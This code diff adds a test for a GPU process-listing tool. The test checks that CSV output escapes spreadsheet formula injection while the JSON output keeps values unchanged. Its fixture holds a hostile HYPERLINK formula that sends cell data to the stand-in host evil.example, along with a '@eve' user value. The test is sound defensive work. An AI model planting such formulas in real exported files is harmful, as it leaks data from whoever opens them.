@@ -248,3 +248,20 @@ def test_processes_the_driver_cannot_list_are_unknown_not_none(write_scenario):
     assert "GPU 0: processes unknown (no permission)" in only and "no GPU processes" not in only
     known = run_vram("ps", "--simulate", path, "--gpu", "1", env=clean_env()).out
     assert "no GPU processes" in known and "unknown" not in known
+
+
+def test_csv_quotes_a_text_a_spreadsheet_would_run_as_a_formula(write_scenario):
+    # Another user's command line (or name) that starts a formula: '=HYPERLINK(...)' in a CSV an admin
+    # opens. It starts with ' there (OWASP's advice); the JSON keeps it as it is. Numbers are numbers.
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    data = {"name": "formulas", "gpus": [{"memory_total": "80GiB", "utilization": 10}],
+            "processes": [{"pid": 700, "user": "@eve", "command": formula, "gpus": {"0": "1GiB"}},
+                          {"pid": 701, "user": "bob", "command": "-bash", "gpus": {"0": "2GiB"}},
+                          {"pid": 702, "user": "carol", "command": "python train.py", "gpus": {"0": "3GiB"}}]}
+    path = str(write_scenario(data))
+    rows = {int(r["pid"]): r for r in csv.DictReader(io.StringIO(run_vram("ps", "--simulate", path, "--csv").out))}
+    assert rows[700]["command"] == "'" + formula and rows[700]["user"] == "'@eve"
+    assert rows[701]["command"] == "'-bash" and rows[702]["command"] == "python train.py"
+    assert rows[702]["memory"] == str(3 * 2**30)
+    shown = {p["pid"]: p for p in run_vram("ps", "--simulate", path, "--json").json()["processes"]}
+    assert shown[700]["command"] == formula and shown[700]["user"] == "@eve"
